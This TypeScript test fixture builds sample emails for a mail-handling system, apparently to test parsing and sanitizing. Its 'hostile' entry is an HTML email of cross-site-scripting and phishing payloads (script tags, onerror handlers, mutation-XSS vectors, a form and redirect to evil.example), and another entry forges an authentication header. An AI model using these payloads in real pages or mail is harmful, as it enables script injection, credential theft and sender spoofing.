/** Mails of every kind, written for tests: each by its name, as bytes. */
const HEAD = `Message-ID: <q1@mail.example>
Date: Mon, 23 Nov 2026 12:00:00 +0100
MIME-Version: 1.0
From: Robin Lee <robin@customer.example>
To: Help <help@acme.example>`;
const DAEMON = `Return-Path: <>
From: Mail Delivery System <MAILER-DAEMON@mx.gone.example>
To: help@acme.example`;
const SENT = `Received: from desk.acme.example by mx.acme.example with ESMTP for <nora@gone.example>;
  Mon, 23 Nov 2026 11:59:00 +0000
Message-ID: <sent-1@acme.example>
From: Help <help@acme.example>
To: nora@gone.example
Subject: Your order

It is on its way.`;
const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABh6FO1AAAAABJRU5ErkJggg==';

/** With the line breaks that mail has; characters are bytes. */
function eml(text: string): Uint8Array {
  return Buffer.from(text.replaceAll('\n', '\r\n'), 'latin1');
}

/** A report for machines (RFC 6522): each part is its header, an empty line, and its body. */
function report(kind: string, ...parts: string[]): Uint8Array {
  const type = `Content-Type: multipart/report; report-type=${kind}; boundary=b`;
  return eml(`${DAEMON}\nSubject: Report\n${type}\n\n${parts.map((part) => `--b\n${part}\n`).join('')}--b--\n`);
}

export function deliveryReport(...recipients: string[][]): Uint8Array {
  return report(
    'delivery-status',
    'Content-Type: text/plain\n\nYour mail did not arrive.',
    `Content-Type: message/delivery-status\n\nReporting-MTA: dns; mx.gone.example\n\n${recipients
      .map((fields) => fields.join('\n'))
      .join('\n\n')}`,
    `Content-Type: message/rfc822\n\n${SENT}`,
  );
}

/** A bounce in words only, as mail servers write it: before the mail that it returns. */
export function bounceOf(subject: string, ...words: string[]): Uint8Array {
  const returned = `--- Below this line is a copy of the message.\n\n${SENT}`;
  return eml(`${DAEMON}\nSubject: ${subject}\n\n${words.join('\n')}\n\n${returned}`);
}

const fromPeople: Record<string, string> = {
  plain: `${HEAD}
Subject: Where is it?

Hello,

where is my order?
--${' '}
Robin`,
  utf8: `${HEAD}
Subject: =?utf-8?B?R3LDvMOfZQ==?=
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Gr=C3=BC=C3=9Fe aus K=C3=B6ln, und noch eine lange Zeile, die weich=
 umbricht.`,
  japanese: `${HEAD}
Subject: =?iso-2022-jp?B?GyRCJCIkPxsoQg==?=
Content-Type: text/plain; charset=iso-2022-jp
Content-Transfer-Encoding: 7bit

\x1b$B$"$?\x1b(B`,
  flowed: `${HEAD}
Content-Type: text/plain; format=flowed; delsp=yes

> one${' '}
> two
three${' '}
four`,
  alternative: `${HEAD}
Subject: With a picture
Content-Type: multipart/alternative; boundary=a

--a
Content-Type: text/plain; charset=utf-8

See [picture]
--a
Content-Type: multipart/related; boundary=b

--b
Content-Type: text/html; charset=utf-8

<p>See <img src="cid:pic@x" alt="it"> <a href="https://a.example/?q=1">there</a></p>
--b
Content-Type: image/png; name=pic.png
Content-ID: <pic@x>
Content-Transfer-Encoding: base64

${PIXEL}
--b--
--a--
`,
  files: `${HEAD}
Subject: Files
Content-Type: multipart/mixed; boundary=b

A preamble that nobody reads.
--b
Content-Type: text/plain

Attached.
--b
Content-Disposition: attachment; filename*0*=utf-8''R%C3%A9sum; filename*1*=%C3%A9%20; filename*2=2026.pdf
Content-Type: application/pdf
Content-Transfer-Encoding: base64

JVBERi0xLjQK
--b
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Transfer-Encoding: base64

eJ8+Ig==
--b
Content-Type: message/rfc822

${SENT}
--b
Content-Type: text/plain

And this below.
--b--
An epilogue.`,
  invitation: `${HEAD}
Subject: Meeting
Content-Type: multipart/alternative; boundary=b

--b
Content-Type: text/plain

You are invited.
--b
Content-Type: text/calendar; method=REQUEST; charset=utf-8

BEGIN:VCALENDAR
END:VCALENDAR
--b--`,
  signed: `${HEAD}
Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=b

--b
Content-Type: text/plain

Signed.
--b
Content-Type: application/pkcs7-signature
Content-Transfer-Encoding: base64

MIIB
--b--`,
  encrypted: `${HEAD}
Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b

--b
Content-Type: application/pgp-encrypted

Version: 1
--b
Content-Type: application/octet-stream; name="encrypted.asc"

-----BEGIN PGP MESSAGE-----
-----END PGP MESSAGE-----
--b--`,
  enveloped: `${HEAD}
Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m
Content-Transfer-Encoding: base64

MIIB`,
  uuencoded: `${HEAD}
Content-Type: application/octet-stream
Content-Transfer-Encoding: x-uuencode

begin 644 cat.txt
#0V%T
\`
end`,
  hostile: `${HEAD}
Content-Type: text/html; charset=utf-8

<html><head><title>x</title><base href="https://evil.example/"><style>p{position:fixed}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example"></head><body onload="a()">
<p style="color:red;position:fixed;background:url(https://t.example/a)" onclick="b()">Hi<script>alert(1)</script></p>
<form action="https://evil.example"><input name=p><button>Go</button></form><svg><script>alert(2)</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(3)></style></mglyph></table></mtext></math>
<img src="https://t.example/open.gif" width=1><a href="javascript:alert(4)">x</a><iframe srcdoc="<p>y"></iframe>
<noscript><p title="</noscript><img src=x onerror=alert(5)>"></noscript><!-- --!> <img src=x> --><![CDATA[ <b>z ]]>`,
  authenticated: `Authentication-Results: mx.acme.example; spf=pass smtp.mailfrom=robin@customer.example;
 dkim=pass header.d=customer.example; dmarc=pass header.from=customer.example
${HEAD}
Authentication-Results: mx.acme.example; dmarc=pass header.from=bank.example

Hi`,
};

const fromMachines: Record<string, string> = {
  list: `${HEAD}\nList-Id: News <news.customer.example>\nPrecedence: bulk\nSubject: News\n\nNew things.`,
  vacation: `Return-Path: <>\n${HEAD}\nAuto-Submitted: auto-replied\nSubject: Abwesend: Order\n\nIm Urlaub.`,
};

export const seedMails: Record<string, Uint8Array> = {
  ...Object.fromEntries(Object.entries({ ...fromPeople, ...fromMachines }).map(([name, text]) => [name, eml(text)])),
  bounce: deliveryReport([
    'Final-Recipient: rfc822; nora@gone.example',
    'Action: failed',
    'Status: 5.1.1',
    'Diagnostic-Code: smtp; 550 5.1.1 No such user',
  ]),
  bounceInWords: bounceOf(
    'failure notice',
    'I was not able to deliver it.',
    '',
    '<nora@gone.example>:',
    '550 5.2.2 Full',
  ),
  complaint: report(
    'feedback-report',
    'Content-Type: text/plain\n\nSomebody minds.',
    'Content-Type: message/feedback-report\n\nFeedback-Type: abuse\nVersion: 1',
    `Content-Type: message/rfc822\n\n${SENT}`,
  ),
  receipt: report(
    'disposition-notification',
    'Content-Type: text/plain\n\nIt was displayed.',
    'Content-Type: message/disposition-notification\n\nOriginal-Message-ID: <sent-1@acme.example>',
  ),
};
